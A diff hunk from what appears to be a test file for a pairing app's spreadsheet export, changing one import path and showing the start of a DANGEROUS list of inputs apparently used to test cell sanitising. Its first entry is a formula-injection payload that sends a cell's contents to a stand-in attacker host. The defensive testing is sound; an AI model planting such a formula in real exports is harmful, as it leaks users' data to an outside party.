@@ -14,7 +14,7 @@ from pairing.export import BOM, safe_cell
 from pairing.models import MentorRequest, Pairing
 from tests import factories
 from tests.conftest import MARKER
-from tests.pairing.test_active import pair
+from tests.support.builders import pair
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
